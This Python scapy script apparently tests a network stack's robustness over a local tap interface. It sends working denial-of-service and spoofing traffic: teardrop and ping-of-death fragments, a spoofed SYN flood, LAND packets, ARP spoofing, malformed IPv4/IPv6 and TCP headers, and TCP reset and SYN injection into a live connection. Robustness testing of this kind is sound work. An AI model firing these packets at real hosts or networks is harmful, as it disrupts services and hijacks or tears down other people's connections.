"""Sends frames that no honest host sends, from the host's side of tap0: WHAT ADDRESS"""
import random
import socket
import subprocess
import sys
import threading
import time

from scapy.all import (
    ARP, ICMP, IP, TCP, UDP, AsyncSniffer, Ether, ICMPv6EchoRequest, ICMPv6ND_NS, ICMPv6ND_RA, IPerror, IPOption, IPv6,
    IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, Padding, PadN, Raw, TCPerror, conf, get_if_hwaddr,
    getmacbyip, getmacbyip6, in4_chksum, in6_chksum, raw, sniff)

NIC, PORT = "tap0", 7007
what, there = sys.argv[1], sys.argv[2]
IS_V6 = ":" in there
HERE = "fd09::1" if IS_V6 else "10.9.0.1"
conf.verb = 0
link = conf.L2socket(iface=NIC)
station = getmacbyip6(there) if IS_V6 else getmacbyip(there)
ether = Ether(src=get_if_hwaddr(NIC), dst=station)
chance = random.Random(7)
PROTOCOLS = {ICMP: 1, TCP: 6, UDP: 17}


def send(*packets):
    for packet in packets:
        link.send(ether / packet)


def ip(**fields):
    """A header of the version that the test is about; of version 6 it has but a protocol to be given."""
    if IS_V6:
        return IPv6(src=HERE, dst=there, **({"nh": fields["proto"]} if "proto" in fields else {}))
    return IP(src=HERE, dst=there, **fields)


def teardrop():
    for second in range(1, 5):
        send(ip(id=second, flags="MF", frag=0, proto=17) / Raw(b"a" * 32),
             ip(id=second, flags=0, frag=second, proto=17) / Raw(b"b" * 4))


def overlapping():
    for i in range(50):
        parts = [(0, 64, 1), (4, 64, 1), (2, 8, 1), (0, 128, 1), (12, 64, 0), (8, 24, 0)]
        chance.shuffle(parts)
        for offset, length, more in parts:
            send(ip(id=1000 + i, flags=more, frag=offset, proto=1) / Raw(bytes([i]) * length))


def ping_of_death():
    for i in range(20):
        send(ip(id=2000 + i, flags="MF", frag=0, proto=1) / Raw(b"\x08\0" + b"a" * 1022),
             ip(id=2000 + i, flags=0, frag=8189, proto=1) / Raw(b"b" * 1400))


def fragment_flood():
    for i in range(5000):
        link.send(ether / IP(src=f"10.9.0.{3 + i % 200}", dst=there, id=i & 0xFFFF, flags="MF", frag=i % 100, proto=17) / Raw(b"c" * 1400))


def land():
    for flags in ("S", "A", "R", "SA"):
        for _ in range(20):
            send(IP(src=there, dst=there) / TCP(sport=PORT, dport=PORT, flags=flags))
    send(IP(src="127.0.0.1", dst=there) / TCP(sport=PORT, dport=PORT, flags="S"),
         IP(src="0.0.0.0", dst=there) / TCP(sport=1, dport=PORT, flags="S"),
         IP(src="224.0.0.1", dst=there) / TCP(sport=1, dport=PORT, flags="S"),
         IP(src="255.255.255.255", dst=there) / TCP(sport=1, dport=PORT, flags="S"))


def bad_ip_options():
    for option in (b"\x44\x04\x05\x00", b"\x83\x03\x10\x00", b"\x89\xff\x04\x00", b"\x07\x00\x00\x00", b"\x07\x01\x00\x00",
                   b"\x01\x01\x01\x44", b"\x82\x0b\x00\x00", b"\xff\x28\x00\x00", b"\x94\x02\x00\x00"):
        for payload in (ICMP(), TCP(sport=5, dport=PORT, flags="S"), UDP(sport=5, dport=PORT) / Raw(b"x")):
            header = bytearray(raw(ip(options=[IPOption(b"\x01\x01\x01\x01" * 3)], proto=PROTOCOLS[type(payload)]) / payload))
            header[20:20 + len(option)] = option
            header[10:12] = b"\0\0"
            header[10:12] = sum16(bytes(header[:32])).to_bytes(2, "big")
            send(Raw(bytes(header)))


def bad_ip_headers():
    good = raw(ip() / ICMP())
    for at in range(20):
        for value in (0, 1, 0x0F, 0x40, 0x4F, 0x60, 0xFF):
            packet = bytearray(good)
            packet[at] = value
            send(Raw(bytes(packet)))
    for length in range(0, 28):
        link.send(Ether(src=ether.src, dst=ether.dst, type=0x0800) / Raw(good[:length]))
    send(ip(len=20) / ICMP(), ip(len=65535) / ICMP(), ip(ihl=15) / ICMP(), ip(version=6) / ICMP(), ip(chksum=1) / ICMP())


def bad_tcp_options():
    for option in (b"\x02\x00", b"\x02\x01", b"\x02\x04\x00\x00", b"\x02\x04\x00\x01", b"\x03\x03\xff", b"\x08\x0a\x00", b"\x05\x0a",
                   b"\x05\x00", b"\x1e\xff\x00\x00", b"\xfd\x01", b"\x01" * 40, b"\x02\x28" + b"\0" * 38, b"\x05\x22" + b"\xff" * 32):
        padded = option + b"\0" * (-len(option) % 4)
        for flags in ("S", "A", "SA", "FA"):
            segment = bytearray(raw(TCP(sport=chance.randrange(1024, 60000), dport=PORT, flags=flags)) + padded)
            segment[12] = ((20 + len(padded)) // 4) << 4
            send_segment(segment)


def send_segment(segment):
    segment[16:18] = b"\0\0"
    packet = ip(proto=6)
    segment[16:18] = (in6_chksum if IS_V6 else in4_chksum)(6, packet, bytes(segment)).to_bytes(2, "big")
    send(packet / Raw(bytes(segment)))


def bad_tcp_headers():
    good = bytearray(raw(TCP(sport=40000, dport=PORT, flags="S")))
    for offset in range(16):
        segment = bytearray(good)
        segment[12] = offset << 4
        send_segment(segment)
    for length in range(20):
        send(ip(proto=6) / Raw(bytes(good[:length])))
    send(ip() / TCP(sport=40001, dport=PORT, flags="S", chksum=0x1234), ip() / TCP(sport=0, dport=PORT, flags="S"),
         ip() / TCP(sport=40002, dport=0, flags="S"), ip() / TCP(sport=40003, dport=PORT, flags="SU", urgptr=65535) / Raw(b"u" * 1000))


def flags():
    for bits in range(512):
        for port in (PORT, PORT + 1):
            send(ip() / TCP(sport=30000 + bits, dport=port, flags=bits, seq=chance.getrandbits(32), ack=chance.getrandbits(32)))
    for bits in range(256):
        # Twice over the same four numbers, so that a half-open connection is hit as well.
        send(ip() / TCP(sport=29999, dport=PORT, flags="S", seq=1), ip() / TCP(sport=29999, dport=PORT, flags=bits, seq=2, ack=chance.getrandbits(32)))


def icmp():
    inner = IPerror(src=there, dst=HERE) / TCPerror(sport=PORT, dport=1234)
    for kind in range(256):
        for code in (0, 1, 4, 15, 255):
            send(ip() / ICMP(type=kind, code=code) / inner)
    for mtu in (0, 1, 20, 67, 68, 1000, 65535):
        send(ip() / ICMP(type=3, code=4, nexthopmtu=mtu) / inner)
    for length in range(0, 40):
        send(ip() / ICMP(type=3, code=3) / Raw(raw(inner)[:length]))
    send(ip() / ICMP(type=5, code=1, gw="10.9.0.77") / inner)


def arp():
    # Whoever claims the address while it is probed for ends the appliance; the announcement at the end of that comes within six seconds.
    sniff(iface=NIC, filter="arp", store=False, timeout=10, stop_filter=lambda p: ARP in p and p[ARP].psrc == p[ARP].pdst == there)
    for operation in (0, 1, 2, 3, 255, 65535):
        for source in (HERE, there, "0.0.0.0", "255.255.255.255", "224.0.0.1", "10.9.0.99"):
            send(ARP(op=operation, psrc=source, pdst=there, hwsrc=ether.src), ARP(op=operation, psrc=source, pdst=there, hwsrc="ff:ff:ff:ff:ff:ff"))
    good = raw(ARP(op=1, psrc=HERE, pdst=there))
    for at in range(8):
        packet = bytearray(good)
        packet[at] ^= 0xFF
        link.send(Ether(src=ether.src, dst=ether.dst, type=0x0806) / Raw(bytes(packet)))
    for length in range(28):
        link.send(Ether(src=ether.src, dst=ether.dst, type=0x0806) / Raw(good[:length]))
    for host in range(3, 255):
        send(ARP(op=2, psrc=f"10.9.0.{host}", pdst=there, hwsrc=f"02:00:00:00:00:{host:02x}"))


def udp():
    good = raw(UDP(sport=5, dport=PORT) / Raw(b"hello"))
    for length in (0, 1, 7, 8, 12, 14, 65535):
        packet = bytearray(good)
        packet[4:6] = length.to_bytes(2, "big")
        packet[6:8] = b"\0\0"  # Of version 6 that is wrong whatever the length.
        send(ip(proto=17) / Raw(bytes(packet)))
    send(ip() / UDP(sport=0, dport=PORT) / Raw(b"x"), ip() / UDP(sport=PORT, dport=PORT, chksum=0xBAD) / Raw(b"x"))
    # An echo that answers an echo would never end.
    send((IPv6 if IS_V6 else IP)(src=there, dst=there) / UDP(sport=PORT, dport=PORT) / Raw(b"for ever"))


def ipv6():
    def v6(**fields):
        return IPv6(src=HERE, dst=there, **fields)
    ping = ICMPv6EchoRequest(data=b"x" * 100)
    send(v6() / IPv6ExtHdrHopByHop(options=[PadN(optdata=b"\0" * 250)]) / ping,
         v6() / IPv6ExtHdrRouting(type=0, addresses=["fd09::3", "fd09::2"]) / ping,
         v6() / IPv6ExtHdrDestOpt(len=255) / ping, v6(nh=0, plen=0) / Raw(b""), v6(plen=65535) / ping, v6(hlim=0) / ping,
         IPv6(src="ff02::1", dst=there) / ping, IPv6(src="::1", dst=there) / ping, IPv6(src=there, dst=there) / ping)
    chain = v6()
    for _ in range(100):
        chain = chain / IPv6ExtHdrDestOpt()
    send(chain / ping)
    for i in range(100):
        send(v6() / IPv6ExtHdrFragment(id=i, offset=0, m=1, nh=58) / Raw(b"a" * 1208),
             v6() / IPv6ExtHdrFragment(id=i, offset=chance.randrange(0, 8191), m=i & 1, nh=58) / Raw(b"b" * 1208))
    send(v6(hlim=1) / ICMPv6ND_RA(routerlifetime=9000), v6(hlim=255) / ICMPv6ND_NS(tgt="ff02::1"), v6(hlim=255) / ICMPv6ND_NS(tgt=there) / Raw(b"\x01\x00"))
    for kind in range(256):
        send(v6(nh=58, hlim=255) / Raw(bytes([kind, 0, 0, 0]) + bytes(40)))


def noise():
    for _ in range(5000):
        link.send(Raw(raw(ether)[:12] + chance.choice([b"\x08\0", b"\x08\x06", b"\x86\xdd", b"\x81\0", bytes(chance.randbytes(2))])
                      + chance.randbytes(chance.randrange(0, 1500))))
    packets = [raw(ip() / ICMP() / Raw(b"x" * 56)), raw(ip() / TCP(dport=PORT, flags="S")), raw(ip() / UDP(dport=PORT) / Raw(b"x"))]
    for _ in range(5000):
        packet = bytearray(chance.choice(packets))
        for _ in range(chance.randrange(1, 4)):
            packet[chance.randrange(len(packet))] = chance.randrange(256)
        packet[10:12] = b"\0\0"
        packet[10:12] = sum16(bytes(packet[:20])).to_bytes(2, "big")
        link.send(Raw(raw(ether)[:12] + b"\x08\0" + bytes(packet)))


def syn_flood():
    print("flooding", flush=True)
    base = bytearray(raw(ether / IP(src="10.9.0.9", dst=there) / TCP(sport=1, dport=PORT, flags="S", options=[("MSS", 1460)])))
    out = link.outs
    for i in range(100_000):
        source = bytes([10, 9, 1 + i % 250, 1 + (i // 250) % 250])
        base[26:30] = source
        base[34:36] = (1024 + i % 60000).to_bytes(2, "big")
        base[38:42] = chance.getrandbits(32).to_bytes(4, "big")
        base[24:26] = b"\0\0"
        base[24:26] = sum16(bytes(base[14:34])).to_bytes(2, "big")
        base[50:52] = b"\0\0"
        pseudo = bytes(base[26:34]) + b"\0\x06" + (len(base) - 34).to_bytes(2, "big")
        base[50:52] = sum16(pseudo + bytes(base[34:])).to_bytes(2, "big")
        out.send(bytes(base))
    print("100000 sent", flush=True)


def sum16(octets):
    total = sum(int.from_bytes(octets[i:i + 2], "big") for i in range(0, len(octets), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def data(segment):
    """Octets of data in a segment; what pads a short frame is none."""
    return 0 if isinstance(segment.payload, Padding) else len(segment.payload)


class Victim:
    """A connection of the host's own, and what passes on it."""

    def __init__(self):
        self.seen = []
        opened = threading.Event()
        self.sniffer = AsyncSniffer(
            iface=NIC, filter=f"tcp port {PORT}", store=False, started_callback=opened.set,
            prn=lambda p: self.seen.append(p[TCP]) if TCP in p else None)
        self.sniffer.start()
        if not opened.wait(60):
            sys.exit("the sniffer does not start")
        self.socket = socket.create_connection((there, PORT), timeout=60)
        self.port = self.socket.getsockname()[1]
        self.exchange()
        hello = self.wait_for(lambda p: p.dport == self.port and data(p))
        self.acknowledged = (hello.seq + data(hello)) & 0xFFFFFFFF
        self.next = hello.ack
        ours = [self.wait_for(lambda p: p.sport == self.port and p.ack == self.acknowledged)]
        self.stamps = dict((o[0], o[1]) for o in ours[-1].options if isinstance(o, tuple)).get("Timestamp")

    def exchange(self):
        self.socket.sendall(b"hello")
        got = b""
        while len(got) < 5:
            part = self.socket.recv(5 - len(got))
            if not part:
                raise ConnectionResetError
            got += part

    def wait_for(self, wanted):
        """The first segment seen that is wanted; they are seen in order, but later than they pass."""
        for _ in range(6000):
            for segment in list(self.seen):
                if wanted(segment):
                    return segment
            time.sleep(0.01)
        sys.exit(f"not seen among {[segment.summary() for segment in self.seen]}")

    def inject(self, **fields):
        """Sends a segment as from the host, and says what became of the connection."""
        self.seen.clear()
        options = [("NOP", None), ("NOP", None), ("Timestamp", self.stamps)] if self.stamps else []
        send(ip() / TCP(sport=self.port, dport=PORT, options=options, window=500, **fields))
        # What came in one batch with data would be answered by one acknowledgement. The first answer to a ping says that
        # the injection has been received, the second that its batch is over and has been answered.
        for _ in range(2):
            subprocess.run(["ping", "-q", "-c", "1", "-w", "60", "-i", "0.2", there], check=True, stdout=subprocess.DEVNULL)
        try:
            self.exchange()
        except OSError:
            return "reset"
        # A challenge acknowledges nothing new.
        self.wait_for(lambda p: p.dport == self.port and data(p))
        challenged = any(p.dport == self.port and "R" not in p.flags and not data(p) and p.ack == self.next for p in list(self.seen))
        return "alive challenged" if challenged else "alive"


def rst_outside(v):
    return v.inject(flags="R", seq=(v.next + (1 << 30)) & 0xFFFFFFFF)


def rst_in_window(v):
    return v.inject(flags="R", seq=v.next + 100)


def rst_exact(v):
    return v.inject(flags="R", seq=v.next)


def syn_injected(v):
    return v.inject(flags="S", seq=v.next + 100)


def data_with_old_ack(v):
    # An acknowledgement of what was never sent, far outside of any window (RFC 5961 section 5): dropped, perhaps challenged.
    return v.inject(flags="PA", seq=v.next, ack=(v.acknowledged + (1 << 30)) & 0xFFFFFFFF).replace(" challenged", "")


injections = (rst_outside, rst_in_window, rst_exact, syn_injected, data_with_old_ack)
by_name = {f.__name__: f for f in injections}
if what in by_name:
    print(by_name[what](Victim()))
else:
    globals()[what]()
    print("done")
